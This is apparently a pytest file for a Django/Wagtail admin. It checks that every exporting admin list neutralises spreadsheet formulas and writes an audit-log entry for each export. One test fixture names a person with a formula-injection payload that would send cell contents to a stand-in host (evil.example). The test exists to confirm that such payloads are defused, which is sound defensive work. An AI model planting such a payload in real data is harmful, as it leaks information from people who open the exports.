"""Every admin list that exports (``list_export``) neutralises its text cells: walked from Wagtail's registry of
viewsets, so a screen added later fails here until it uses ``exams.admin_exports`` (issue #22, finding 9)."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.admin.viewsets import viewsets

from exams.admin_exports import NeutralisedExportMixin
from tests.factories import PersonFactory, UserFactory
from tests.plugin_apps import plugin_labels

OURS = plugin_labels()


def exporting_viewsets():
    reverse("wagtailadmin_home")  # the admin URLs are loaded, so every viewset is registered
    return [vs for vs in viewsets.viewsets
            if isinstance(getattr(vs, "list_export", None), (list, tuple)) and vs.list_export
            and getattr(vs, "model", None) is not None
            and vs.model._meta.app_label in OURS]


def test_every_exporting_admin_list_of_ours_neutralises_formulas():
    found = exporting_viewsets()
    assert len(found) >= 15  # people, requirements, questions, attempts, certificates, decisions, permits, ...
    plain = [type(vs).__name__ for vs in found if not issubclass(vs.index_view_class, NeutralisedExportMixin)]
    assert plain == []


@pytest.mark.django_db
def test_a_name_that_is_a_formula_is_exported_as_text(client):
    """A roster row can name a person "=HYPERLINK(...)": the People export keeps it text, also where it appears as
    a related object (the manager column)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    boss = PersonFactory(name=formula)
    PersonFactory(name="王五", manager=boss)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    response = client.get(reverse("wagtailsnippets_lms_person:list") + "?export=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def exporting_routes():
    """Every admin route of ours whose view exports (``list_export``): the viewsets' lists and the reports, from the
    URL resolver, so a list added later is walked without anyone naming it. (Wagtail's own reports, of pages,
    workflows and redirects, are not ours: docs/audit.md.)"""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    from tests.urlwalk import is_ours, routes

    found = []
    for route in routes():
        view_class = route.view_class
        columns = getattr(route.callback, "view_initkwargs", {}).get("list_export") or getattr(
            view_class, "list_export", None)
        if (view_class is not None and is_ours(route) and issubclass(view_class, SpreadsheetExportMixin) and columns
                and "<" not in route.route and "(?P" not in route.route):
            found.append(route)
    return found


@pytest.mark.django_db
def test_every_admin_list_export_writes_a_ledger_entry(client):
    """Issue #21: exporting a list of people's records is evidence an auditor can follow. Each exporting list, in
    each format, leaves one ``export`` / ``admin_list`` entry naming who, which list and model, the filters and the
    rows, never a cell."""
    from lms.audit.models import AuditEntry

    PersonFactory(name="导出测试")
    admin = UserFactory(is_superuser=True, is_staff=True)
    client.force_login(admin)
    found = exporting_routes()
    walked = {route.name.split(":")[0] for route in found}
    assert {vs.url_namespace for vs in exporting_viewsets()} <= walked  # every viewset, and the reports besides
    assert {"lms_inductions_overdue", "lms_agreement_status"} <= walked
    missing = []
    for route in found:
        url = "/" + route.route.replace("^", "").replace("$", "")
        for export_format in ("csv", "xlsx"):
            before = AuditEntry.objects.filter(kind="export").count()
            response = client.get(url, {"export": export_format})
            if response.streaming:
                b"".join(response.streaming_content)  # a CSV is written while it streams: read it all
            entries = list(AuditEntry.objects.filter(kind="export").order_by("seq")[before:])
            ok = (response.status_code == 200 and len(entries) == 1 and entries[0].action == "admin_list"
                  and entries[0].actor_id == admin.pk and entries[0].data["format"] == export_format
                  and entries[0].data["query"] == {} and entries[0].object_type
                  and isinstance(entries[0].data["rows"], int))
            if not ok:
                missing.append(f"{route.name or route.route} {export_format}: {response.status_code}, {entries}")
    assert missing == []
    # What was asked is kept (the search, the filters), and how many rows left; never a cell.
    PersonFactory(name="别人")
    client.get(reverse("wagtailsnippets_lms_person:list"), {"export": "csv", "q": "导出"})
    entry = AuditEntry.objects.filter(kind="export").order_by("-seq").first()
    assert (entry.object_type, entry.data["query"], entry.data["rows"]) == ("lms_people.person", {"q": ["导出"]}, 1)
    assert entry.data["list"] == reverse("wagtailsnippets_lms_person:list") and "name" in entry.data["columns"]
    assert "导出测试" not in str(entry.data["columns"]) and "别人" not in str(entry.data)
